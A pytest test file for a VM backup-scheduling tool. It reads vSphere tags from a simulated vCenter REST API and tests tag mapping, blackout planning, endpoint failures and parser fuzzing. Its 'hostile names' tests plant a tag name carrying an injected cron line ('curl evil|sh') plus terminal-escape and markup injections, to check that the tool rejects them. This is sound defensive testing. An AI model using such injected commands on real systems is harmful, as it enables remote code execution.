"""vSphere tags through the vSphere Automation REST API, against govmomi's vAPI simulator.

The simulator (tests/vcsim/main.go + tags.go) serves the real ``/rest/com/vmware/cis`` tagging
endpoints of govmomi 0.24.2 with categories and tags created through that REST API. Failure
modes (no endpoint, 401, 403, HTML, a read that breaks half-way, a hanging endpoint) are
switched on the running simulator with ``POST /stagger/vapi-mode``; the SOAP API is untouched.
"""

from __future__ import annotations

import json
import ssl
import sys
import urllib.request
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from stagger.cli import app
from stagger.errors import InputError, SourceProtocolError, SourceTimeoutError
from stagger.model.policy import Policy
from stagger.planner import PlanOptions, plan
from stagger.scope import affected_vms
from stagger.sources import vsphere_tags
from stagger.sources.vcenter import VCenterOptions, build_topology, load_vcenter
from stagger.sources.vsphere_tags import TagsUnavailable
from stagger.sources.yamlfile import dump_yaml, load_topology
from stagger.validate import find_violations

runner = CliRunner()


def _opts(sim: Any, **kw: Any) -> VCenterOptions:
    base: dict[str, Any] = dict(
        server=sim.host,
        port=sim.port,
        user=sim.user,
        password=sim.password,
        ca_file=str(sim.ca_file),
    )
    base.update(kw)
    return VCenterOptions(**base)


def _expected_tags(vm: dict[str, Any], *, vsphere: bool = True) -> list[str]:
    tags = {f"{k}={v}" for k, v in vm["attributes"].items()}
    if vsphere:
        for t in vm["vsphere_tags"] or []:
            tags |= {f"{t['category']}:{t['tag']}", t["tag"]}
    return sorted(tags)


class _Rest:
    """What an admin's script does through the REST API: create and attach tags."""

    def __init__(self, sim: Any) -> None:
        self.base = f"https://{sim.host}:{sim.port}"
        self.ctx = ssl.create_default_context(cafile=str(sim.ca_file))
        self.session = str(
            self.call("POST", "/rest/com/vmware/cis/session", auth=(sim.user, sim.password))
        )

    def call(
        self, method: str, path: str, body: Any = None, auth: tuple[str, str] | None = None
    ) -> Any:
        req = urllib.request.Request(self.base + path, method=method)
        if body is not None:
            req.data = json.dumps(body).encode()
            req.add_header("Content-Type", "application/json")
        if auth is not None:
            import base64

            token = base64.b64encode(f"{auth[0]}:{auth[1]}".encode()).decode()
            req.add_header("Authorization", f"Basic {token}")
        else:
            req.add_header("vmware-api-session-id", self.session)
        with urllib.request.urlopen(req, context=self.ctx, timeout=30) as resp:
            raw = resp.read()
        return json.loads(raw)["value"] if raw.strip() else None

    def tag_vm(self, category: str, tag: str, moref: str) -> str:
        """Create category and tag, attach the tag to a VM; returns the category id."""
        cat = self.call(
            "POST",
            "/rest/com/vmware/cis/tagging/category",
            {
                "create_spec": {
                    "name": category,
                    "description": "",
                    "cardinality": "MULTIPLE",
                    "associable_types": [],
                }
            },
        )
        tid = self.call(
            "POST",
            "/rest/com/vmware/cis/tagging/tag",
            {"create_spec": {"name": tag, "description": "", "category_id": cat}},
        )
        self.call(
            "POST",
            f"/rest/com/vmware/cis/tagging/tag-association/id:{tid}?~action=attach",
            {"object_id": {"type": "VirtualMachine", "id": moref}},
        )
        return str(cat)

    def delete_category(self, cat: str) -> None:
        self.call("DELETE", f"/rest/com/vmware/cis/tagging/category/id:{cat}")


def _set_mode(sim: Any, mode: str) -> None:
    ctx = ssl.create_default_context(cafile=str(sim.ca_file))
    req = urllib.request.Request(
        f"https://{sim.host}:{sim.port}/stagger/vapi-mode", data=mode.encode(), method="POST"
    )
    with urllib.request.urlopen(req, context=ctx, timeout=10) as resp:
        assert resp.status == 204


@pytest.fixture(scope="module")
def pulled(vcsim: Any) -> Any:
    return load_vcenter(_opts(vcsim))


@pytest.fixture(scope="module")
def tagsim(vcsim_binary: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """A small simulator of this module's own: its tagging endpoint is switched and changed."""
    harness = sys.modules["stagger_vcsim_harness"]  # loaded by tests/sources/conftest.py
    sim = harness.start_vcsim(vcsim_binary, tmp_path_factory.mktemp("tagsim"), vms=24)
    try:
        yield sim
    finally:
        sim.stop()


@pytest.fixture
def mode(tagsim: Any) -> Iterator[Any]:
    """Set the tagging endpoint's mode for one test; back to the real one after it."""
    yield lambda m: _set_mode(tagsim, m)
    _set_mode(tagsim, "on")


# --- tags read and mapped -----------------------------------------------------------------------


def test_tags_read_and_mapped_onto_vms(vcsim: Any, pulled: Any) -> None:
    by_uuid = {v.instance_uuid: v for v in pulled.topology.vms}
    expected = [v for v in vcsim.truth["vms"] if not v["template"]]
    assert vcsim.truth["vapi"] is True
    for want in expected:
        assert by_uuid[want["instance_uuid"]].tags == _expected_tags(want), want["name"]
    got = {t for v in pulled.topology.vms for t in v.tags}
    # category:tag and plain tag; one tag name in two categories gives one plain tag; Unicode
    # names kept as they are.
    assert {"BackupWindow:payroll", "payroll", "Owner:ops", "Team:ops", "ops"} <= got
    assert {"Größe:groß ✓", "groß ✓"} <= got
    assert "Owner:unused" not in got  # a tag on nothing


def test_the_read_is_bulk_not_per_vm(vcsim: Any, pulled: Any) -> None:
    stats = pulled.stats
    pairs = {(t["category"], t["tag"]) for v in vcsim.truth["vms"] for t in v["vsphere_tags"] or []}
    categories = {c for c, _ in pairs}
    assert stats.tags == len(pairs) == 7
    assert stats.tagged_vms == sum(bool(v["vsphere_tags"]) for v in vcsim.truth["vms"]) > 100
    # login, tag list, one bulk association call, one read per attached tag and category, logout:
    # the same for 30 or 30,000 VMs.
    assert stats.tag_requests == 1 + 1 + 1 + len(pairs) + len(categories) + 1
    warning = next(w for w in pulled.warnings if w.startswith("vSphere tags:"))
    assert "2 associations with objects other than VMs not used" in warning
    assert "Datastore 1, HostSystem 1" in warning


def test_blackout_scoped_by_a_vsphere_tag_is_planned(vcsim: Any, pulled: Any) -> None:
    topo = pulled.topology
    policy = Policy.model_validate(
        {
            "timezone": "Europe/Berlin",
            "cycle": {"start": "2026-12-01", "nights": 3},
            "window": {"start": "18:00", "end": "08:00"},
            "throughput": {"mb_per_s": 400, "overhead_minutes": 5},
            "blackouts": [
                {
                    "name": "payroll run",
                    "scope": {"tag": "BackupWindow:payroll"},
                    "rrule": "FREQ=DAILY;BYHOUR=18;BYMINUTE=0",
                    "duration": "8h",
                },
                {
                    "name": "av scan",
                    "scope": {"tag": "av-scan"},
                    "rrule": "FREQ=DAILY;BYHOUR=2;BYMINUTE=0",
                    "duration": "6h",
                },
            ],
        }
    )
    idx = topo.index()
    payroll = affected_vms(policy.blackouts[0], idx)
    av_scan = affected_vms(policy.blackouts[1], idx)
    truth = [v for v in vcsim.truth["vms"] if not v["template"]]
    names = {v.instance_uuid: v.name for v in topo.vms}

    def tagged(tag: str) -> set[str]:
        return {
            names[v["instance_uuid"]]
            for v in truth
            if any(t["tag"] == tag for t in v["vsphere_tags"] or [])
        }

    assert payroll == tagged("payroll") and len(payroll) > 20
    assert av_scan == tagged("av-scan") and len(av_scan) > 20
    schedule = plan(topo, policy, PlanOptions(solver="greedy")).schedule
    assert find_violations(schedule, topo, policy) == []
    jobs = {j.vm: j for j in schedule.jobs}
    assert payroll & set(jobs) and av_scan & set(jobs)
    zone = ZoneInfo("Europe/Berlin")

    def after_18h_min(t: datetime) -> int:
        local = t.astimezone(zone)
        return (local.hour * 60 + local.minute - 18 * 60) % 1440

    for vm in payroll & set(jobs):  # 18:00-02:00 blacked out: starts at 02:00 or later
        assert after_18h_min(jobs[vm].start) >= 8 * 60, vm
    for vm in av_scan & set(jobs):  # 02:00-08:00 blacked out: ends by 02:00
        assert after_18h_min(jobs[vm].end) <= 8 * 60, vm


# --- the tagging endpoint fails: warn, no tag applied, the estate still read --------------------


@pytest.mark.parametrize(
    ("fault", "said"),
    [
        ("absent", "login: HTTP 404, no vSphere Automation (tagging) endpoint"),
        ("unauthenticated", "login: HTTP 401, login refused (unauthenticated: Authentication"),
        ("forbidden", "tag list: HTTP 403, permission denied (unauthorized: Unable to authorize"),
        ("html", "login: the answer is not JSON (starts '<html><body>vSphere"),
        ("broken-tag", "tag: HTTP 500 (internal_server_error: tagging service failed)"),
    ],
)
def test_failing_tagging_endpoint_warns_and_applies_no_tag(
    tagsim: Any, mode: Any, fault: str, said: str
) -> None:
    mode(fault)
    inv = load_vcenter(_opts(tagsim))
    warning = next(w for w in inv.warnings if w.startswith("vSphere tags not read"))
    assert said in warning
    assert "blackout scopes on vSphere tags match no VM" in warning
    by_uuid = {v.instance_uuid: v for v in inv.topology.vms}
    expected = [v for v in tagsim.truth["vms"] if not v["template"]]
    assert len(by_uuid) == len(expected)
    # All or none: in 'broken-tag' the first tag was read before the failure; it is not applied.
    for want in expected:
        assert by_uuid[want["instance_uuid"]].tags == _expected_tags(want, vsphere=False)
    assert inv.stats.tags is None
    assert any(v["vsphere_tags"] for v in expected)  # there were tags to miss


def test_no_tags_skips_the_read(tagsim: Any, mode: Any) -> None:
    with_tags = load_vcenter(_opts(tagsim))
    without = load_vcenter(_opts(tagsim, read_tags=False))
    assert without.stats.tag_requests == 0 and without.stats.tags is None
    assert with_tags.stats.tag_requests > 0
    # The tag read's bytes count against the same --max-response-mib budget as the SOAP load.
    assert with_tags.stats.bytes_read > without.stats.bytes_read
    assert all(":" not in t for v in without.topology.vms for t in v.tags)
    mode("forbidden")  # --no-tags never calls the endpoint, so it cannot warn about it
    quiet = load_vcenter(_opts(tagsim, read_tags=False))
    assert not [w for w in quiet.warnings if "vSphere tags" in w]


def test_hanging_tagging_endpoint_ends_at_the_load_deadline(tagsim: Any, mode: Any) -> None:
    """The deadline is the whole load's: a hanging tagging service does not get its own."""
    mode("slow")  # every tagging call waits 20 s
    with pytest.raises(SourceTimeoutError, match=r"while reading vSphere tags.*--no-tags"):
        load_vcenter(_opts(tagsim, timeout_s=8))


def test_endless_tagging_answer_ends_at_the_load_byte_cap(tagsim: Any, mode: Any) -> None:
    """The byte cap is the whole load's too: the tag read's bytes count against it."""
    mode("endless")  # the tag list streams up to 64 MiB
    with pytest.raises(SourceProtocolError, match=r"more than 2 MiB while reading vSphere tags"):
        load_vcenter(_opts(tagsim, max_response_mib=2))


def test_endpoint_missing_cli_warns_and_writes_the_inventory(
    vcsim_binary: Path, tmp_path: Path
) -> None:
    """A server without the vAPI endpoint (vcsim without RegisterEndpoints: a 404, as ESXi)."""
    harness = sys.modules["stagger_vcsim_harness"]  # loaded by tests/sources/conftest.py
    sim = harness.start_vcsim(vcsim_binary, tmp_path / "sim", vms=12, extra_args=("-vapi=false",))
    try:
        out = tmp_path / "topology.yaml"
        res = runner.invoke(
            app,
            [
                "inventory",
                "vcenter",
                "--vcenter",
                sim.host,
                "--port",
                str(sim.port),
                "--user",
                sim.user,
                "--ca-file",
                str(sim.ca_file),
                "-o",
                str(out),
            ],
            env={"STAGGER_VSPHERE_PASSWORD": sim.password},
        )
    finally:
        sim.stop()
    assert res.exit_code == 0, res.output
    assert "warning: vSphere tags not read (login: HTTP 404" in " ".join(res.output.split())
    topo = load_topology(out)
    assert sim.truth["vapi"] is False
    by_uuid = {v.instance_uuid: v for v in topo.vms}
    for want in sim.truth["vms"]:
        if not want["template"]:
            assert by_uuid[want["instance_uuid"]].tags == _expected_tags(want, vsphere=False)


# --- hostile names ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("category", "tag", "kind", "shown"),
    [
        ("Ops", "payroll\n15 3 * * * root curl evil|sh", "tag", r"'payroll\n15 3 * * *"),
        ("Ops\x1b[2J", "nightly", "category", r"'Ops\x1b[2J'"),
        ("Ops", "a\u0085b", "tag", r"'a\x85b'"),
    ],
)
def test_control_characters_in_tag_names_refused_in_one_line(
    tagsim: Any, category: str, tag: str, kind: str, shown: str
) -> None:
    rest = _Rest(tagsim)
    vm = next(v for v in tagsim.truth["vms"] if not v["template"])
    cat = rest.tag_vm(category, tag, vm["moref"])
    try:
        with pytest.raises(InputError) as e:
            load_vcenter(_opts(tagsim))
    finally:
        rest.delete_category(cat)
    line = str(e.value)
    assert "\n" not in line and "\x1b" not in line and "\x85" not in line
    assert line.startswith(f"vCenter {tagsim.host}: {kind} urn:vmomi:InventoryService")
    assert shown in line and "field 'name': holds control character" in line
    assert "nothing was written" in line and "--no-tags" in line
    assert e.value.exit_code == 1


def test_hostile_tag_name_cli_exit_1_nothing_written(tagsim: Any, tmp_path: Path) -> None:
    rest = _Rest(tagsim)
    vm = next(v for v in tagsim.truth["vms"] if not v["template"])
    cat = rest.tag_vm("Ops", "x\r\n[bold red]y", vm["moref"])
    out = tmp_path / "topology.yaml"
    args = [
        "inventory",
        "vcenter",
        "--vcenter",
        tagsim.host,
        "--port",
        str(tagsim.port),
        "--user",
        tagsim.user,
        "--ca-file",
        str(tagsim.ca_file),
        "-o",
        str(out),
    ]
    env = {"STAGGER_VSPHERE_PASSWORD": tagsim.password}
    try:
        res = runner.invoke(app, args, env=env)
        skipped = runner.invoke(app, [*args, "--no-tags"], env=env)
    finally:
        rest.delete_category(cat)
    assert res.exit_code == 1, res.output
    assert not out.exists() or skipped.exit_code == 0
    lines = [ln for ln in res.output.splitlines() if ln.strip()]
    assert len(lines) == 1 and r"'x\r\n[bold red]y'" in lines[0], res.output
    # --no-tags reads the same estate without the tag read.
    assert skipped.exit_code == 0, skipped.output
    assert "[bold red]" not in out.read_text()


def test_hostile_name_on_a_tag_of_no_vm_does_not_stop_the_load(tagsim: Any) -> None:
    """Only tags attached to VMs are read (by id): others never reach the estate."""
    rest = _Rest(tagsim)
    cat = rest.call(
        "POST",
        "/rest/com/vmware/cis/tagging/category",
        {
            "create_spec": {
                "name": "Unused\n",
                "description": "",
                "cardinality": "SINGLE",
                "associable_types": [],
            }
        },
    )
    try:
        inv = load_vcenter(_opts(tagsim))
    finally:
        rest.delete_category(str(cat))
    assert inv.stats.tags is not None and inv.stats.tags > 0


# --- the answer parsers: any JSON, any bytes -> a value or TagsUnavailable, nothing else ---------


def _containers(inner: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner)


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    _containers,
    max_leaves=20,
)
_shapes = st.fixed_dictionaries(
    {"tag_id": st.text(max_size=8) | _json, "object_ids": _json},
    optional={"extra": _json},
)


@settings(max_examples=300, deadline=None)
@given(value=_json | st.lists(_shapes, max_size=3), asked=st.lists(st.text(max_size=8)))
def test_parsers_take_any_json(value: Any, asked: list[str]) -> None:
    for parse in (
        lambda: vsphere_tags.session_id(value),
        lambda: vsphere_tags.id_list(value, "tag list"),
        lambda: vsphere_tags.associations(value, asked),
        lambda: vsphere_tags.named(value, "tag", "category_id"),
    ):
        try:
            parse()
        except TagsUnavailable as exc:
            assert "\n" not in str(exc)


@settings(max_examples=300, deadline=None)
@given(status=st.sampled_from([200, 200, 401, 403, 404, 500]), body=st.binary(max_size=200))
def test_decode_takes_any_bytes(status: int, body: bytes) -> None:
    try:
        vsphere_tags.decode(status, body, "tag list")
    except TagsUnavailable as exc:
        assert "\n" not in str(exc) and "\r" not in str(exc)


@settings(max_examples=200, deadline=None)
@given(
    value=st.dictionaries(
        st.sampled_from(["type", "value"]),
        st.text() | st.dictionaries(st.just("messages"), st.lists(_json, max_size=2)),
    )
)
def test_vapi_error_text_is_one_line(value: Any) -> None:
    with pytest.raises(TagsUnavailable) as e:
        vsphere_tags.decode(403, json.dumps(value).encode(), "tag list")
    assert "\n" not in str(e.value) and "\x1b" not in str(e.value)


def test_deeply_nested_answer_is_not_a_crash() -> None:
    body = b"[" * 100_000 + b"]" * 100_000
    with pytest.raises(TagsUnavailable, match="not JSON"):
        vsphere_tags.decode(200, body, "tag list")


def test_association_answer_is_read_for_the_tags_asked_only() -> None:
    """A tag left out of the answer is on nothing the user may read; one not asked is ignored."""
    answer = [
        {"tag_id": "t1", "object_ids": [{"type": "VirtualMachine", "id": "vm-1"}]},
        {"tag_id": "t9", "object_ids": [{"type": "VirtualMachine", "id": "vm-2"}]},
    ]
    assert vsphere_tags.associations(answer, ["t1", "t2"]) == {
        "t1": [("VirtualMachine", "vm-1")],
        "t2": [],
    }


# --- mapping onto VM tags -----------------------------------------------------------------------

# Anything but control characters (refused) and lone surrogates (not text).
_names = st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=16)


def test_vsphere_tags_join_custom_attributes_without_repeats() -> None:
    from tests.sources.test_vcenter_names import estate

    topo = build_topology(estate(), "vc.example", {"vm-1": ["Env:prod", "prod", "Owner=ops"]})
    assert topo.topology.vms[0].tags == ["Env:prod", "Owner=ops", "prod"]
    assert build_topology(estate(), "vc.example").topology.vms[0].tags == ["Owner=ops"]


@settings(max_examples=150, deadline=None)
@given(category=_names, tag=_names)
def test_any_tag_name_survives_the_topology_file(
    category: str, tag: str, tmp_path_factory: Any
) -> None:
    """Names such as 'a: b', '- x', '#', '*', bidi marks: the written topology reads back equal."""
    from tests.sources.test_vcenter_names import estate

    strings = list(vsphere_tags.tag_strings(category, tag))
    assert strings == [f"{category}:{tag}", tag]
    topo = build_topology(estate(), "vc.example", {"vm-1": strings}).topology
    out = tmp_path_factory.mktemp("t") / "topology.yaml"
    out.write_text(dump_yaml(topo), encoding="utf-8")
    assert load_topology(out).vms[0].tags == topo.vms[0].tags
    assert set(strings) <= set(topo.vms[0].tags)


def test_no_tags_needs_a_vcenter(tmp_path: Path) -> None:
    topo = tmp_path / "t.yaml"
    topo.write_text("hosts: [{name: h}]\nvms: [{name: v, host: h, disks: [{size_gib: 1}]}]\n")
    res = runner.invoke(app, ["audit", "--topology", str(topo), "--no-tags"])
    assert res.exit_code == 1 and "--no-tags needs --vcenter HOST" in res.output, res.output
    assert runner.invoke(app, ["audit", "--topology", str(topo)]).exit_code == 0


def test_plan_from_vcenter_keeps_a_tag_scoped_blackout(tagsim: Any, tmp_path: Path) -> None:
    """`stagger plan --vcenter`: the tags come through the CLI path and bind the plan."""
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "timezone: Europe/Berlin\ncycle: {start: 2026-12-01, nights: 2}\n"
        'window: {start: "18:00", end: "08:00"}\nthroughput: {mb_per_s: 400}\n'
        "blackouts:\n"
        '  - {name: payroll, scope: {tag: "BackupWindow:payroll"},'
        ' rrule: "FREQ=DAILY;BYHOUR=18;BYMINUTE=0", duration: 8h}\n'
    )
    out = tmp_path / "schedule.json"
    args = [
        "plan",
        "--vcenter",
        tagsim.host,
        "--port",
        str(tagsim.port),
        "--user",
        tagsim.user,
        "--ca-file",
        str(tagsim.ca_file),
        "-p",
        str(policy),
        "-o",
        str(out),
        "--solver",
        "greedy",
    ]
    res = runner.invoke(app, args, env={"STAGGER_VSPHERE_PASSWORD": tagsim.password})
    assert res.exit_code == 0, res.output
    jobs = json.loads(out.read_text())["jobs"]
    name_of = {v.moref: v.name for v in load_vcenter(_opts(tagsim)).topology.vms}
    payroll = {
        name_of[v["moref"]]
        for v in tagsim.truth["vms"]
        if any(t["tag"] == "payroll" for t in v["vsphere_tags"] or [])
    }
    zone = ZoneInfo("Europe/Berlin")
    starts = [
        datetime.fromisoformat(j["start"]).astimezone(zone) for j in jobs if j["vm"] in payroll
    ]
    assert len(starts) == len(payroll) > 0
    assert all(2 <= s.hour < 8 for s in starts), starts  # not in 18:00-02:00
    # Without the tags the blackout binds no VM: some payroll VM then starts before 02:00.
    res = runner.invoke(
        app, [*args, "--no-tags"], env={"STAGGER_VSPHERE_PASSWORD": tagsim.password}
    )
    assert res.exit_code == 0, res.output
    jobs = json.loads(out.read_text())["jobs"]
    assert any(
        not 2 <= datetime.fromisoformat(j["start"]).astimezone(zone).hour < 8
        for j in jobs
        if j["vm"] in payroll
    )
